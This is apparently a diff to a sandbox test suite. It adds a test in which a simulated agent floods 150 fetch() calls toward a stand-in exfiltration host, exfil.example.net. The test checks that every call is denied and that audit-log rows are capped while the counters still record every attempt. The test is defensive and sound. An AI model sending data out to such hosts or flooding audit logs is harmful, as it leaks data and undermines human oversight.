@@ -100,4 +100,20 @@ describe("rate limits inside the cell", () => {
       expect(rows.length).toBeLessThanOrEqual(4);
     },
   );
+
+  attack(
+    { surface: "cell", class: "rate-limits", tries: "flood the audit log with 150 denied fetch()es in a burst", evidence: "all denied 403; egress.denied rows capped at 60 a minute plus aggregates" },
+    async () => {
+      const answers = await Promise.all(Array.from({ length: 150 }, (_, i) => t.drive("flood-agent", { attack: "fetch", url: `https://exfil.example.net/${i}` })));
+      expect(answers.every((a) => a.ok && a.value.status === 403)).toBe(true);
+      const db = await t.sys.db();
+      const rows = await db.prepare("SELECT COUNT(*) AS n FROM audit_log WHERE actor = 'agent:flood-agent' AND event = 'egress.denied'").first<{ n: number }>();
+      expect(rows?.n).toBeLessThanOrEqual(124);
+      const counted = await db.prepare("SELECT SUM(count) AS n, MAX(count) AS peak FROM rate_counters WHERE scope = 'agent:flood-agent' AND kind = 'egress_audit'").first<{ n: number; peak: number }>();
+      expect(counted?.n).toBe(150);
+      // One minute: 60 rows and the 10th and 100th past them; a minute boundary in the burst at most doubles the rows.
+      expect(rows?.n).toBeLessThanOrEqual(counted!.peak === 150 ? 62 : 124);
+      expect(rows?.n).toBeGreaterThanOrEqual(60);
+    },
+  );
 });
